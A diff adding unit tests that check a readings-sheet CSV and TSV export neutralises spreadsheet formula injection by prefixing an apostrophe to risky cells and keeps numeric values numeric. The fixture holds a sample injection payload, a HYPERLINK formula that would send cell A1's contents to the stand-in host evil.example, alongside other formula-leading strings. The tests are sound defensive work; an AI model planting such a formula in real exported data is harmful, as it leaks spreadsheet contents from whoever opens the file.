@@ -1,3 +1,4 @@
+import { parse as parseDelimited } from 'papaparse';
 import {
   parseReadingSheetText,
   READING_SHEET_COLUMNS,
@@ -51,6 +52,45 @@ describe('the readings sheet', () => {
     const csv = readingSheetCsv(rows);
     expect(csv.startsWith('\uFEFFid,customerNumber,')).toBe(true);
     expect(csv.split('\r\n')[1]).toBe('a1,1000,"أحمد, ""أبو علي""",3,,5,100,150.5,');
+  });
+});
+
+describe('the readings sheet keeps what customers typed as data', () => {
+  const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';
+  const risky = [
+    { ...rows[0], name: hyperlink, box: '-عميل', address: '+961 3 123456', currentKwh: -12.5 },
+    { ...rows[0], id: 'b2', name: '@SUM(A1:A9)', box: null, address: '\t=1+1', newCurrentKwh: 175 },
+  ];
+  const opened = (text: string, delimiter: string) => {
+    const { data, errors } = parseDelimited<(string | number | null)[]>(text.replace(/^\uFEFF/, ''), {
+      delimiter,
+      dynamicTyping: true,
+      skipEmptyLines: true,
+    });
+    expect(errors).toEqual([]);
+    return data.slice(1);
+  };
+
+  it.each([
+    ['the CSV download', () => readingSheetCsv(risky), ','],
+    ['the TSV copy', () => readingSheetTsv(risky), '\t'],
+  ])('%s, opened by a CSV parser, has no cell beginning with a formula character', (_, text, delimiter) => {
+    const data = opened(text(), delimiter);
+    for (const cell of data.flat()) if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(data.map((row) => row.slice(2, 5))).toEqual([
+      [`'${hyperlink}`, "'-عميل", "'+961 3 123456"],
+      ["'@SUM(A1:A9)", null, expect.stringMatching(/^'\s=1\+1$/)],
+    ]);
+  });
+
+  it.each([
+    ['the CSV download', () => readingSheetCsv(risky), ','],
+    ['the TSV copy', () => readingSheetTsv(risky), '\t'],
+  ])('%s keeps the numbers numbers, a negative one too', (_, text, delimiter) => {
+    expect(opened(text(), delimiter).map((row) => [row[1], ...row.slice(5)])).toEqual([
+      [1000, 5, 100, -12.5, null],
+      [1000, 5, 100, 150.5, 175],
+    ]);
   });
 });
 
